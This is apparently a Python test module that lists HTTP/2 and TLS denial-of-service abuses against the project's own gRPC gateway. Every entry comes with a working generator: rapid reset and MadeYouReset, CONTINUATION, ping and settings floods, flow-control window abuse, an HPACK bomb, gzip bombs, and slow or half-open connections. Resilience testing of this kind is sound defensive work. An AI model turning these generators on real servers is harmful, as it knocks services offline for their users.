"""
The ways of abusing HTTP/2 and TLS, as one table: what is sent, burst after burst, on how many lines.

Whoever carries one out (`tests.attack.hostile`) takes as many bursts as he likes; none of them ends.
"""

from __future__ import annotations

import gzip
import os
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import count

from exchange._proto.v1 import directory_service_pb2 as directory_pb
from tests.attack.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    fields,
    frame,
    message,
)

PUSH = "/hotline.exchange.v1.ExchangeService/PushMessages"
PULL = "/hotline.exchange.v1.ExchangeService/PullMessages"
MATTERS = "/hotline.exchange.v1.DirectoryService/ListMatters"
#: Streams or frames of one burst.
MANY = 64


@dataclass(frozen=True, slots=True, kw_only=True)
class Abuse:
    """One way, and what it needs: lines (connections) at once, and seconds between two bursts on one."""

    name: str
    bursts: Callable[[], Iterator[bytes]]
    lines: int = 1
    every: float = 0.0
    #: Whether a gateway's certificate is shown; without one only TCP is spoken, and bytes of TLS.
    certificate: bool = True
    #: The window of each stream, which is how much of an answer is taken.
    window: int = 65_535
    #: Whether what the bridge says is read at all.
    reads: bool = True


def _streams() -> Iterator[int]:
    return count(1, 2)


def _opened(stream: int, method: str = PULL, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, fields(method))


def _code(number: int) -> bytes:
    return struct.pack(">I", number)


def reset_at_once() -> Iterator[bytes]:
    """Rapid reset (CVE-2023-44487): calls are opened and taken back before they say anything."""
    for streams in _in_turn():
        yield b"".join(_opened(one) + frame(RST_STREAM, 0, one, _code(8)) for one in streams)


def reset_when_asked() -> Iterator[bytes]:
    """Likewise, but each call is whole: the bridge may begin to answer it."""
    for streams in _in_turn():
        yield b"".join(
            _opened(one) + frame(DATA, END_STREAM, one, message(b"")) + frame(RST_STREAM, 0, one, _code(8))
            for one in streams
        )  # fmt: skip


def made_to_reset() -> Iterator[bytes]:
    """MadeYouReset (CVE-2025-8671): a frame that forces the bridge to take the stream back itself."""
    for streams in _in_turn():
        yield b"".join(
            _opened(one) + frame(DATA, END_STREAM, one, message(b"")) + frame(WINDOW_UPDATE, 0, one, _code(0))
            for one in streams
        )  # fmt: skip


def _in_turn() -> Iterator[list[int]]:
    streams = _streams()
    while True:
        yield [next(streams) for _ in range(MANY)]


def continued() -> Iterator[bytes]:
    """A header block that goes on and on, a small field a frame (CVE-2024-27983 and its kin)."""
    yield _opened(1, flags=0)
    field = b"\0\x01z\x01z"
    while True:
        yield b"".join(frame(CONTINUATION, 0, 1, field) for _ in range(10 * MANY))


def continued_with_nothing() -> Iterator[bytes]:
    """Likewise, and the frames are empty: no limit on the size of headers ever fills."""
    yield _opened(1, flags=0)
    while True:
        yield frame(CONTINUATION, 0, 1) * (10 * MANY)


def pings() -> Iterator[bytes]:
    """Pings, each of which wants its answer."""
    while True:
        yield frame(PING, 0, 0, bytes(8)) * (10 * MANY)


def settings() -> Iterator[bytes]:
    """Settings, each of which is to be obeyed and acknowledged."""
    numbers = count(1024)
    while True:
        yield b"".join(
            frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, next(numbers) % 65_536, 1, 4096))
            for _ in range(10 * MANY)
        )


def answers_untaken() -> Iterator[bytes]:
    """Calls with large answers whose windows stay shut: the bridge has to keep what nobody takes."""
    asked = message(directory_pb.ListMattersRequest(page_size=500).SerializeToString())
    for streams in _in_turn():
        yield b"".join(
            _opened(one, MATTERS) + frame(DATA, END_STREAM, one, asked) for one in streams
        )


def answers_in_bytes() -> Iterator[bytes]:
    """Answers that are taken a byte at a time, by as many window updates."""
    asked = message(directory_pb.ListMattersRequest(page_size=500).SerializeToString())
    yield b"".join(
        _opened(one, MATTERS) + frame(DATA, END_STREAM, one, asked) for one in range(1, 2 * MANY, 2)
    )
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, one, _code(1)) for one in range(1, 2 * MANY, 2))


def streams_held() -> Iterator[bytes]:
    """More and more calls that are opened and never say what they want."""
    for streams in _in_turn():
        yield b"".join(map(_opened, streams))


def streams_kept() -> Iterator[bytes]:
    """As many calls on each line as it may have, opened, and never a word more."""
    yield b"".join(map(_opened, range(1, 2 * MANY, 2)))
    while True:
        yield b""


def long_headers() -> Iterator[bytes]:
    """Calls with far more metadata than is allowed, in whole header blocks."""
    block = fields(PULL, **{f"x_{number}": "y" * 1000 for number in range(15)})
    for streams in _in_turn():
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, block) for one in streams)


def headers_unpacked() -> Iterator[bytes]:
    """An HPACK bomb: one field kept in the table, then named thousands of times, a byte each."""
    value = b"y" * 4000
    kept = b"\x40\x01x\x7f" + bytes([4000 - 127 & 127 | 128, 4000 - 127 >> 7]) + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, fields(PULL) + kept)
    streams = _streams()
    next(streams)
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, next(streams), fields(PULL) + b"\xbe" * 15_000)
            for _ in range(8)
        )


@cache
def _bomb() -> bytes:
    return message(gzip.compress(bytes(1 << 25), 9), compressed=True)


def gzip_bombs() -> Iterator[bytes]:
    """Compressed requests of thirty kilobytes that unpack to thirty megabytes."""
    block = fields(PUSH, grpc_encoding="gzip")
    chunks = [_bomb()[at : at + 16_000] for at in range(0, len(_bomb()), 16_000)]
    for stream in _streams():
        flags = [0] * (len(chunks) - 1) + [END_STREAM]
        sent = (frame(DATA, flag, stream, chunk) for flag, chunk in zip(flags, chunks, strict=True))
        yield frame(HEADERS, END_HEADERS, stream, block) + b"".join(sent)


def a_byte_at_a_time() -> Iterator[bytes]:
    """Calls whose request comes a byte a second."""
    yield b"".join(
        _opened(one, PUSH) + frame(DATA, 0, one, b"\0\0\1\0\0") for one in range(1, 2 * MANY, 2)
    )
    while True:
        yield b"".join(frame(DATA, 0, one, b"\0") for one in range(1, 2 * MANY, 2))


def half_a_message() -> Iterator[bytes]:
    """Calls that announce a message and end before it is there."""
    for streams in _in_turn():
        yield b"".join(
            _opened(one, PUSH) + frame(DATA, END_STREAM, one, message(bytes(64))[:32])
            for one in streams
        )


def calls() -> Iterator[bytes]:
    """Whole, allowed calls, as fast as they go: what is left is the rate that an organisation has."""
    asked = message(b"")
    for streams in _in_turn():
        yield b"".join(_opened(one) + frame(DATA, END_STREAM, one, asked) for one in streams)


def slow_hello() -> Iterator[bytes]:
    """A TLS handshake of which a byte a second arrives."""
    hello = bytes.fromhex("16030100c8010000c40303") + os.urandom(32)
    for byte in hello:
        yield bytes([byte])
    while True:
        yield b"\0"


def silence() -> Iterator[bytes]:
    """TCP is connected, and nothing follows."""
    while True:
        yield b""


def noise() -> Iterator[bytes]:
    """What is no TLS at all, again and again on new connections."""
    while True:
        yield os.urandom(1024)


ABUSES: dict[str, Abuse] = {
    one.name: one
    for one in (
        Abuse(name="rapid reset", bursts=reset_at_once),
        Abuse(name="rapid reset, whole calls", bursts=reset_when_asked, lines=4),
        Abuse(name="made to reset", bursts=made_to_reset),
        Abuse(name="continuation flood", bursts=continued),
        Abuse(name="empty continuations", bursts=continued_with_nothing),
        Abuse(name="ping flood", bursts=pings),
        Abuse(name="ping flood, unread", bursts=pings, reads=False),
        Abuse(name="settings flood", bursts=settings),
        Abuse(name="settings flood, unread", bursts=settings, reads=False),
        Abuse(name="window shut", bursts=answers_untaken, window=0, lines=8),
        Abuse(name="window by bytes", bursts=answers_in_bytes, window=0),
        Abuse(name="streams without end", bursts=streams_held),
        Abuse(name="streams on many lines", bursts=streams_kept, lines=40, every=0.2),
        Abuse(name="long headers", bursts=long_headers),
        Abuse(name="unpacked headers", bursts=headers_unpacked),
        Abuse(name="gzip bombs", bursts=gzip_bombs),
        Abuse(name="slow requests", bursts=a_byte_at_a_time, lines=4, every=1.0),
        Abuse(name="half a message", bursts=half_a_message),
        Abuse(name="calls without end", bursts=calls),
        Abuse(name="calls on many lines", bursts=calls, lines=40),
        Abuse(name="slow handshakes", bursts=slow_hello, certificate=False, lines=200, every=1.0),
        Abuse(name="half-open connections", bursts=silence, certificate=False, lines=400, every=1.0),
        Abuse(name="noise", bursts=noise, certificate=False),
    )
}  # fmt: skip
